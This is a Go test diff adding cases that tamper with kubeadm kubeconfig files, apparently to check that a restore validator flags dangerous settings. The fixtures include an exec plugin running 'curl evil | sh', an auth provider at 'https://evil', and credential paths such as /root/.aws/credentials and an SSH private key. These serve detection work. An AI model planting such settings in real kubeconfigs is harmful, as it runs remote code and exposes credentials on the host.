@@ -296,6 +296,128 @@ func TestRunDamaged(t *testing.T) {
 			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Fail, "certificate-authority " + kdir + "/pki/gone.crt"}},
 		},
 		{
+			name: "exec plugin beside embedded credentials",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
+					cfg.user.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
+				})
+			},
+			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, `user "kubernetes-admin" sets exec, which kubeadm never writes: whoever uses this kubeconfig would run its command`}},
+		},
+		{
+			name: "auth provider",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "scheduler.conf", func(cfg *kubeconfig) {
+					cfg.user.AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{"idp-issuer-url": "https://evil"}}
+				})
+			},
+			want: []finding{{kdir + "/scheduler.conf", IDKubeconfig, Fail, "sets auth-provider"}},
+		},
+		{
+			name: "token file",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "controller-manager.conf", func(cfg *kubeconfig) {
+					cfg.user.TokenFile = "/root/.aws/credentials"
+				})
+			},
+			want: []finding{{kdir + "/controller-manager.conf", IDKubeconfig, Fail, "sets tokenFile, which kubeadm never writes: whoever uses this kubeconfig would read that file of the host"}},
+		},
+		{
+			name: "inline token without a client certificate",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "super-admin.conf", func(cfg *kubeconfig) {
+					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
+					cfg.user.Token = "abcdef.0123456789abcdef"
+				})
+			},
+			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Warn, "other credentials are not checked"}},
+		},
+		{
+			name: "client key file outside the tree",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "super-admin.conf", func(cfg *kubeconfig) {
+					cfg.user.ClientKeyData = nil
+					cfg.user.ClientKey = "/root/.ssh/id_ed25519"
+				})
+			},
+			want: []finding{{kdir + "/super-admin.conf", IDKubeconfig, Fail, "client-key /root/.ssh/id_ed25519 is outside /etc/kubernetes, the restored tree"}},
+		},
+		{
+			name: "relative CA file climbing out of the tree",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
+					cfg.cluster.CertificateAuthorityData = nil
+					cfg.cluster.CertificateAuthority = "../ssl/certs/ca.pem"
+				})
+			},
+			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "certificate-authority /etc/ssl/certs/ca.pem is outside /etc/kubernetes"}},
+		},
+		{
+			name: "client certificate file linking out of the tree",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
+					dir := filepath.Join(root, "root")
+					if err := os.MkdirAll(dir, 0o700); err != nil {
+						t.Fatal(err)
+					}
+					if err := os.WriteFile(filepath.Join(dir, "admin.pem"), cfg.user.ClientCertificateData, 0o600); err != nil {
+						t.Fatal(err)
+					}
+					if err := os.Symlink("/root/admin.pem", filepath.Join(root, kdir, "pki/admin.pem")); err != nil {
+						t.Fatal(err)
+					}
+					cfg.user.ClientCertificateData = nil
+					cfg.user.ClientCertificate = "pki/admin.pem"
+				})
+			},
+			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "client-certificate " + kdir + "/pki/admin.pem links out of /etc/kubernetes, the restored tree, to /root/admin.pem"}},
+		},
+		{
+			name: "kubelet credentials in another file of the kubelet",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
+					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
+					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet.crt"
+					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet.key"
+				})
+			},
+			want: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet.crt is outside /etc/kubernetes"}},
+		},
+		{
+			name: "kubelet's rotated certificate linking out of the kubelet's directory",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "kubelet.conf", func(cfg *kubeconfig) {
+					pair := slices.Concat(cfg.user.ClientCertificateData, cfg.user.ClientKeyData)
+					for _, d := range []string{"var/lib/kubelet/pki", "root"} {
+						if err := os.MkdirAll(filepath.Join(root, d), 0o700); err != nil {
+							t.Fatal(err)
+						}
+					}
+					if err := os.WriteFile(filepath.Join(root, "root/pair.pem"), pair, 0o600); err != nil {
+						t.Fatal(err)
+					}
+					if err := os.Symlink("/root/pair.pem", filepath.Join(root, "var/lib/kubelet/pki/kubelet-client-current.pem")); err != nil {
+						t.Fatal(err)
+					}
+					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
+					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
+					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
+				})
+			},
+			want: []finding{{kdir + "/kubelet.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet-client-current.pem links out of /etc/kubernetes, the restored tree, to /root/pair.pem"}},
+		},
+		{
+			name: "kubelet's rotated certificate named by another kubeconfig",
+			damage: func(t *testing.T, root string) {
+				editKubeconfig(t, root, "admin.conf", func(cfg *kubeconfig) {
+					cfg.user.ClientCertificateData, cfg.user.ClientKeyData = nil, nil
+					cfg.user.ClientCertificate = "/var/lib/kubelet/pki/kubelet-client-current.pem"
+					cfg.user.ClientKey = "/var/lib/kubelet/pki/kubelet-client-current.pem"
+				})
+			},
+			want: []finding{{kdir + "/admin.conf", IDKubeconfig, Fail, "client-certificate /var/lib/kubelet/pki/kubelet-client-current.pem is outside /etc/kubernetes"}},
+		},
+		{
 			name: "keys in PKCS#8 and EC form",
 			damage: func(t *testing.T, root string) {
 				key, err := ParseKey(readFile(t, root, "pki/apiserver.key"))
